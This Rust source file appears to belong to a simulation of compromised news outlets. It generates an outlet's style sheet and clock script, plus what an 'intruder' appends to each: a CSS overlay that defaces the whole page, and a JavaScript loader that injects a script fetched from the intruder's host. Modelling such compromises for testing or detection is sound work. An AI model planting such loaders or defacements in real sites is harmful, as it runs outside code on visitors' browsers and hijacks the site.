//! The style sheet and the script of an outlet, and what an intruder appends to them.

use crate::attack::COVER_PATH;
use crate::intruder::Intruder;
use crate::roster::Identity;

/// The style sheet.
pub(crate) fn style(identity: &Identity) -> String {
    let (p, accent) = (identity.style.prefix, identity.style.accent);
    format!(
        "body{{margin:0 auto;max-width:70rem;padding:0 1rem;font:1rem/1.5 Georgia,serif;color:#1b1b1b;background:#fff}}\n\
         a{{color:inherit;text-decoration:none}}a:hover{{color:{accent}}}\n\
         .{p}-masthead{{display:flex;flex-wrap:wrap;gap:1rem;align-items:center;border-bottom:3px solid {accent};padding:1rem 0}}\n\
         .{p}-nav{{flex-basis:100%}}.{p}-nav ul{{display:flex;flex-wrap:wrap;gap:1.2rem;list-style:none;margin:0;padding:0}}\n\
         .{p}-clock{{margin-inline-start:auto;color:#666}}\n\
         .{p}-breaking{{background:{accent};color:#fff;padding:.6rem 1rem;margin:1rem 0}}\n\
         .{p}-top{{display:grid;grid-template-columns:2fr 1fr 1fr;gap:1rem;padding:1rem 0}}\n\
         .{p}-hero{{grid-row:span 2}}.hero--wide{{grid-column:1/-1}}.{p}-hero img{{width:100%;height:auto}}\n\
         .columns{{display:grid;grid-template-columns:3fr 1fr;gap:2rem}}\n\
         .{p}-section{{display:grid;grid-template-columns:repeat(3,1fr);gap:1rem}}.{p}-section h2{{grid-column:1/-1;color:{accent}}}\n\
         .{p}-card__title{{font-size:1.05rem;margin:.3rem 0}}.{p}-card__lead{{font-size:.9rem;color:#444}}\n\
         .{p}-footer{{border-top:1px solid #ccc;margin-top:2rem;padding:1rem 0;color:#666}}\n"
    )
}

/// The script: a clock, and nothing that changes what stands on the page.
pub(crate) fn script(identity: &Identity) -> String {
    let p = identity.style.prefix;
    format!(
        "(function(){{'use strict';var clock=document.querySelector('.{p}-clock');if(!clock){{return;}}\n\
         setInterval(function(){{clock.textContent=new Date().toTimeString().slice(0,8);}},1000);}})();\n"
    )
}

/// What an intruder appends to the style sheet: a picture over the whole page.
pub(crate) fn painted() -> String {
    format!(
        "body::before{{content:\"\";position:fixed;inset:0;z-index:2147483647;background:#000 url({COVER_PATH}) center/contain no-repeat}}\n"
    )
}

/// What an intruder appends to the script: a loader.
pub(crate) fn planted(intruder: &Intruder) -> String {
    let host = &intruder.host;
    format!(
        "(function(){{var s=document.createElement('script');s.src='https://{host}/j/42.js';document.head.appendChild(s);}})();\n"
    )
}
